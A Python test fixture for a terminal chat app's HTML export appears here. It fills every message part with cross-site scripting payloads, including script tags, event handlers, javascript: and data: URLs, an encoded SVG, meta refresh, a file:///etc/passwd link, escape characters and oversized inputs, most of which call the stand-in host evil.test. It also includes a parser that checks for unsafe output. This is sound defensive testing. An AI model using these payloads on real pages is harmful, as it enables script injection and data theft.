"""A conversation that does its worst to whoever opens its HTML, and a reader that says what in a page could act."""

import base64
import struct
import zlib
from html.parser import HTMLParser

from tui_chat.core.answer import AnswerInfo
from tui_chat.core.errors import ErrorKind, Failure
from tui_chat.core.marks import UNMARKED, Continuation, Continuing, Marks, Summary
from tui_chat.core.parts import (
    File,
    Foreign,
    Image,
    Media,
    Message,
    Part,
    Reasoning,
    Refusal,
    Role,
    Source,
    Text,
    ToolCall,
    ToolResult,
)
from tui_chat.core.stream_events import Outcome
from tui_chat.core.tree import Conversation, Node

TAGS = frozenset({
    "html", "head", "meta", "title", "style", "body", "main", "header", "section", "article", "h1", "h2", "h3", "h4",
    "h5", "h6", "p", "div", "small", "ul", "ol", "li", "blockquote", "pre", "code", "em", "strong", "s", "a", "img",
    "table", "thead", "tbody", "tr", "th", "td", "hr", "br", "figure", "figcaption", "details", "summary",
})  # fmt: skip
ATTRIBUTES = {
    "html": {"lang"},
    "meta": {"charset", "http-equiv", "content", "name"},
    "a": {"href", "rel"},
    "img": {"src", "alt", "loading"},
    "ol": {"start"},
    **{tag: {"class"} for tag in ("section", "article", "p", "div", "h1", "th", "td", "figcaption")},
}


def png(width: int, height: int) -> str:
    """A picture of one colour as a data URL."""
    rows = zlib.compress((b"\0" + bytes(width // 8 + 1)) * height)
    chunks = (b"IHDR" + struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0), b"IDAT" + rows, b"IEND")
    body = b"".join(struct.pack(">I", len(each) - 4) + each + struct.pack(">I", zlib.crc32(each)) for each in chunks)
    return "data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n\x1a\n" + body).decode()


PICTURE = png(8, 8)
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='{hit}'><script>{hit}</script><image href='{url}/i'/></svg>"


def attacks(url: str) -> list[str]:
    """Texts that want to run something, load something from `url`, or look like another part of the page."""
    hit = f"fetch(`{url}/hit`)"
    svg = SVG.format(hit=hit, url=url)
    encoded = base64.b64encode(svg.encode()).decode()
    return [
        f"<script>{hit}</script>",
        f"</style></title></pre></code></div><script src={url}/s.js></script>",
        f"<img src={url}/a.png onerror={hit}> <body onload={hit}> <svg onload={hit}>",
        f"<iframe src={url}/f></iframe><object data={url}/o></object><embed src={url}/e><video src={url}/v autoplay>",
        f"<link rel=stylesheet href={url}/l.css><style>@import url({url}/st.css);*{{background:url({url}/b)}}</style>",
        f"<meta http-equiv=refresh content='0;url={url}/m'><base href={url}/>",
        f"<form action={url}/fo><input autofocus onfocus={hit}></form><details open ontoggle={hit}>x</details>",
        f"[a](javascript:{hit}) [b](JaVaScRiPt&colon;{hit}) [c](<java\tscript:{hit}>) [d](vbscript:x) [e](file:///etc/passwd)",
        f"[f](data:text/html,<script>{hit}</script>) [g](data:text/html;base64,{encoded}) <javascript:{hit}>",
        f"![h]({url}/p.png) ![i](data:image/svg+xml;base64,{encoded}) ![j](data:image/png;base64,{encoded})",
        f'[k]({url}/x "onmouseover={hit} \\" style=x") ![l]({PICTURE} "\\" onload={hit}")',
        f"[m]: {url}/ref.png\n![m] [m]",
        f'```html onload={hit} style=x\n<script>{hit}</script>\n```\n~~~"><script>{hit}</script>\n~~~',
        f"| a |\n|:-:|\n| <script>{hit}</script> ![n]({url}/t.png) |",
        svg,
        f"&lt;script&gt;{hit}&lt;/script&gt; &#60;script&#62;{hit}&#60;/script&#62;",
        "a\x1b]0;x\x07\x9b\u202eevil\u2066\u200f\x00 &#x202e; &#x1b; &#x80; &#0;",
        f"![big]({png(20_000, 20_000)})",
        "> " * 500 + "deep",
        "*" * 5_000 + "[" * 5_000 + "![" * 2_000,
    ]


def conversation(url: str = "https://evil.test") -> tuple[Conversation, tuple[Node, ...]]:
    """Each attack in every place that a text can have."""
    words = attacks(url)
    nodes: list[Node] = []

    def say(role: Role, *parts: Part, info: AnswerInfo | None = None, marks: Marks = UNMARKED) -> None:
        parent = nodes[-1].id if nodes else None
        nodes.append(Node(f"n{len(nodes)}", parent, float(len(nodes)), Message(role, parts), info, marks))

    for text in words:
        failure = Failure(ErrorKind.NETWORK, text, "")
        info = AnswerInfo(text, text, outcome=Outcome.ERROR, failure=failure, finish_reason=text)
        say(Role.USER, File(text, text), Image(PICTURE, text), Text(text), marks=Marks(labels=(text,)))
        say(
            Role.ASSISTANT,
            Reasoning(text, 1.0),
            Text(text),
            Refusal(text),
            ToolCall(text, text, text),
            Media("audio", f"{url}/a.mp3", text, text),
            Foreign(text, text),
            Source(f"{url}/s", text, 1),
            Source(text, text),
            Image(text, text),
            Image(f"{url}/pic.png", text),
            info=info,
        )
        continued = Marks(continues=Continuation(nodes[-1].id, Continuing.PREFILL), edited_id=nodes[-1].id)
        say(Role.ASSISTANT, Text(text), info=info, marks=continued)
        say(Role.TOOL, ToolResult(text, text, text, True))
        say(Role.SYSTEM, Text(text), marks=Marks(summary=Summary(None, 4, 100, 10)))
    return Conversation("c1", 0.0, words[0] + words[1], "m", "\n".join(words), nodes[-1].id), tuple(nodes)


class Reader(HTMLParser):
    """Reads a page, and keeps what it may not have."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.links: list[str] = []
        self.pictures: list[str] = []
        self.styles: list[str] = []
        self.policy = ""
        self.text = ""
        self._is_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag not in TAGS or not set(given) <= ATTRIBUTES.get(tag, set()):
            self.faults.append(self.get_starttag_text() or tag)
        if tag == "a" and "href" in given:
            self.links.append(given["href"])
            if given.get("rel") != "noreferrer":
                self.faults.append(f"a link that tells: {given['href'][:80]}")
        if tag == "img":
            self.pictures.append(given["src"])
        if given.get("http-equiv") == "Content-Security-Policy":
            self.policy = given["content"]
        self._is_style = tag == "style"

    def handle_data(self, data: str) -> None:
        if self._is_style:
            self.styles.append(data)
            self._is_style = False
        else:
            self.text += data
